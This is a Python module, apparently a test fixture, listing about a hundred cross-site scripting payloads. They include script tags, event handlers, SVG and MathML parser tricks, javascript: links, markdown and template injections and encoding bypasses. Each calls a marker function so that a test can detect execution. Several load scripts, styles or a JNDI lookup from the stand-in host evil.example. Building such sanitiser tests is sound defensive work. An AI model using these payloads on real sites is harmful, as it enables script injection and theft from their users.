"""A hundred texts that would run a script if a page took them for anything but text.

Each calls `ran(n)` with its own number n, changes the title, opens a dialog or asks a foreign host.
Where `N` stands, the number is put in.
"""

from __future__ import annotations

import re

SCRIPTS = (
    "<script>ran(N)</script>",
    "<SCRIPT>ran(N)</SCRIPT >",
    "<script type=module>ran(N)</script>",
    "<script src=data:text/javascript,ran(N)></script>",
    "<script src=//evil.example/N.js></script>",
    "<script>document.title='ran N';ran(N)</script>",
    "<scr<script>ipt>ran(N)</scr</script>ipt>",
    "</script><script>ran(N)</script>",
    "<script/x>ran(N)</script>",
    "<script\n>ran(N)</script>",
    "</title><script>ran(N)</script>",
    "</textarea><script>ran(N)</script>",
    "</style><script>ran(N)</script>",
    "--><script>ran(N)</script>",
    "]]><script>ran(N)</script>",
    "'\"><script>ran(N)</script>",
    '<noscript><p title="</noscript><img src=x onerror=ran(N)>">',
    "<template><script>ran(N)</script></template><img src=x onerror=ran(N)>",
)
HANDLERS = (
    "<img src=x onerror=ran(N)>",
    "<IMG SRC=x OnErRoR=ran(N)>",
    "<img src='x' onerror='ran(N)' />",
    "<img/src=x/onerror=ran(N)>",
    "<img src=x onerror=\nran(N)>",
    "<img src=x onerror=&#114;an(N)>",
    "<img src=x:x onerror=window['r'+'an'](N)>",
    "<img srcset=x onerror=ran(N)>",
    "<img src=x onerror=alert(N)>",
    "<img src=x onerror=confirm(N)>",
    "<img src=x onerror=\"document.title='ran N'\">",
    '"><img src=x onerror=ran(N)>',
    "' onerror='ran(N)' x='",
    '" onmouseover="ran(N)" autofocus onfocus="ran(N)" x="',
    "<input autofocus onfocus=ran(N)>",
    "<select autofocus onfocus=ran(N)>",
    "<textarea autofocus onfocus=ran(N)>",
    "<details open ontoggle=ran(N)>",
    "<video><source onerror=ran(N)></video>",
    "<audio src=x onerror=ran(N)>",
    "<video src=x onerror=ran(N)>",
    "<body onload=ran(N)>",
    "<body onpageshow=ran(N)>",
    "<iframe onload=ran(N)>",
    "<object data=x onerror=ran(N)>",
    "<link rel=stylesheet href=x onerror=ran(N)>",
    "<style onload=ran(N)></style>",
    "<p style='animation:a 1s' onanimationstart=ran(N)><style>@keyframes a{}</style>",
    "<div contenteditable autofocus onfocus=ran(N)>x</div>",
    "<div tabindex=1 autofocus onfocus=ran(N)>x</div>",
    "<marquee onstart=ran(N)>x</marquee>",
    "<xss autofocus tabindex=1 onfocus=ran(N)>x</xss>",
)
VECTORS = (
    "<svg onload=ran(N)>",
    "<svg/onload=ran(N)//",
    "<svg><script>ran(N)</script></svg>",
    "<svg><script>ran&lpar;N&rpar;</script></svg>",
    "<svg><script href=data:text/javascript,ran(N) /></svg>",
    "<svg><animate onbegin=ran(N) attributeName=x dur=1s>",
    "<svg><set onbegin=ran(N) attributeName=x>",
    "<svg><image href=x onerror=ran(N)></svg>",
    "<svg><a href=javascript:ran(N)><text y=20>N</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=ran(N)></foreignObject></svg>",
    "<svg><style><img src=x onerror=ran(N)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran(N)>",
    "<math><mi><img src=x onerror=ran(N)></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran(N)>",
)
ADDRESSES = (
    "<a href=javascript:ran(N)>N</a>",
    "<a href='java\tscript:ran(N)'>N</a>",
    "<a href=' javascript:ran(N)'>N</a>",
    "<a href=&#106;avascript:ran(N)>N</a>",
    "<a href=data:text/html,<script>top.ran(N)</script>>N</a>",
    "<iframe src=javascript:parent.ran(N)></iframe>",
    "<iframe srcdoc='<script>parent.ran(N)</script>'></iframe>",
    "<embed src=javascript:ran(N)>",
    "<form action=javascript:ran(N)><button>N</button></form>",
    "<button formaction=javascript:ran(N) form=f>N</button><form id=f></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example/N'>",
    "<base href=//evil.example/>",
    "javascript:ran(N)",
    "javascript:/*--></title></style></textarea></script><svg/onload='/*'/*/ran(N)//'>",
)
MARKDOWN = (
    "[N](javascript:ran(N))",
    "[N](JaVaScRiPt:ran(N))",
    "[N](data:text/html;base64,PHNjcmlwdD50b3AucmFuKDcpPC9zY3JpcHQ+)",
    '![N](x"onerror="ran(N))',
    "![N](//evil.example/N.png)",
    "<javascript:ran(N)>",
    "[N]: javascript:ran(N)\n[N]",
    "`<img src=x onerror=ran(N)>`<img src=x onerror=ran(N)>",
    "```html\n<script>ran(N)</script>\n```\n<script>ran(N)</script>",
    ":red[<img src=x onerror=ran(N)>]",
    ":material/<img src=x onerror=ran(N)>:",
    ":blue-badge[[N](javascript:ran(N))] :small[$\\href{javascript:ran(N)}{N}$]",
    "$$\\href{javascript:ran(N)}{N}$$ $\\includegraphics{//evil.example/N.png}$",
)
TEMPLATES = (
    "{{constructor.constructor('ran(N)')()}}",
    "${ran(N)} `${ran(N)}` #{ran(N)} <%= ran(N) %>",
    "{0.__class__} %(ran)s %n {{7*7}} ${jndi:ldap://evil.example/N}",
    "\\u003cimg src=x onerror=ran(N)\\u003e",
    "&lt;img src=x onerror=ran(N)&gt;",
    "＜img src=x onerror=ran(N)＞ \u2028<img src=x onerror=ran(N)>\ufeff",
    "<style>@import '//evil.example/N.css';*{background:url(//evil.example/N.png)}</style>",
    "\u202e<img src=x onerror=ran(N)>\u202c</p></div></main><img src=x onerror=ran(N)>",
    'N");ran(N);//\';ran(N);//\\";ran(N);//`;ran(N)//',
)
ALL = (*SCRIPTS, *HANDLERS, *VECTORS, *ADDRESSES, *MARKDOWN, *TEMPLATES)
PAYLOADS = tuple(re.sub(r"\bN\b", str(1000 + place), text) for place, text in enumerate(ALL))
